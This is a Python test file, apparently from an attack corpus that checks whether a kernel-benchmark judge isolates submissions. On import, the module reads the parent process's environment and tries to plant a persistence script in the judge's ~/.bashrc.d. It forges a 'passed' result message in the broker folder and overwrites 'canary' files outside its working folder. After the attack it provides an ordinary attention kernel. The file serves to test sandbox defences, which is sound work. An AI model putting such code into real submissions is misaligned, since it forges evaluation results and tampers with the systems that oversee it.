"""Writes outside its working folder: /tmp, the judge's home and folder, the broker, its neighbours.

Class: writing outside the working folder
Expected: error

With the judge's permissions the submission can plant persistence and forge results. On loading it
tries to create ``~/.bashrc.d/kernelrank-pwned.sh`` in the judge's
home (taken from ``/proc/<parent>/environ``; many ``~/.bashrc`` files source that folder, so this
stands for editing ``~/.bashrc`` itself); a forged message in the filesystem broker's folder under
the judge's working folder (``/proc/<parent>/cwd/.kernelrank/broker``), where a "result recorded"
message would be picked up as genuine; a file in the scratch folder that holds every job's folder
and in the folder above it; and it overwrites files there whose name starts with ``canary`` (this
corpus only overwrites such files, so that running it by mistake destroys nothing). If anything was
written the attack "won" and behaves, so a harness without file-system isolation lets it pass. A
working defence makes everything outside the child's folder read-only or invisible (a mount
namespace, another user): every write fails and the attack raises.
"""

import json
import os
from pathlib import Path

import torch

PAGE_SIZE = 64
D_V = 512
_MARK = f"kernelrank-pwned by pid {os.getpid()}\n"


def _judge():
    try:
        raw = open(f"/proc/{os.getppid()}/environ", "rb").read()
        env = dict(kv.decode(errors="replace").partition("=")[::2] for kv in raw.split(b"\0") if b"=" in kv)
    except OSError:
        env = {}
    return env.get("HOME"), Path(f"/proc/{os.getppid()}/cwd")


def _try_write(path, text, written, refused, mode="x"):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, mode, encoding="utf-8") as f:
            f.write(text)
        written.append(str(path))
    except OSError as e:
        refused.append(f"{path}: {e.__class__.__name__}")


def _attack():
    written, refused = [], []
    # /tmp is not a target: each child has a private tmpfs there (README, Isolation), so a file
    # written there is the child's own; what matters is the shared /tmp seen by the judge, which
    # test_attacks checks from outside
    home, judge_cwd = _judge()
    if home:
        _try_write(Path(home) / ".bashrc.d" / "kernelrank-pwned.sh", "echo " + _MARK, written, refused)
    broker = judge_cwd / ".kernelrank" / "broker"
    if broker.is_dir():
        forged = {"task": "kernelrank.record_result", "kwargs": {"status": "passed", "score_ns": 1}}
        _try_write(broker / f"kernelrank-pwned-{os.getpid()}.msg", json.dumps(forged), written, refused)
    _try_write(judge_cwd / f"kernelrank-pwned-{os.getpid()}", _MARK, written, refused)
    for up in list(Path.cwd().resolve().parents)[:2]:
        _try_write(up / f"kernelrank-pwned-{os.getpid()}", _MARK, written, refused)
        try:
            canaries = [p for p in up.rglob("canary*") if p.is_file() and not p.is_symlink()]
        except OSError:
            canaries = []
        for p in canaries[:20]:
            _try_write(p, _MARK, written, refused, mode="w")
    return written, refused


_written, _refused = _attack()
if not _written:
    raise RuntimeError(f"nothing outside the working folder is writable: {'; '.join(_refused)[:1500]}")
print(f"[attack] wrote outside the sandbox: {_written}", flush=True)


def custom_kernel(data):
    q, kv_cache, block_table, cache_seqlens, softmax_scale = data
    b, s_q, h_q, d = q.shape
    n = block_table.shape[1] * PAGE_SIZE
    kv = kv_cache[block_table.long()].view(b, n, d)
    pos = torch.arange(n, device=q.device)
    lens = cache_seqlens.long()
    kv = torch.where((pos[None, :] < lens[:, None])[:, :, None], kv.float(), 0.0)
    scores = torch.matmul(q.float().view(b, s_q * h_q, d), kv.transpose(1, 2)).view(b, s_q, h_q, n) * softmax_scale
    visible = lens[:, None] - s_q + 1 + torch.arange(s_q, device=q.device)[None, :]
    scores = scores.masked_fill(~(pos[None, None, :] < visible[:, :, None])[:, :, None, :], float("-inf"))
    p = torch.softmax(scores, dim=-1).view(b, s_q * h_q, n)
    return torch.matmul(p, kv[:, :, :D_V]).view(b, s_q, h_q, D_V).to(q.dtype)
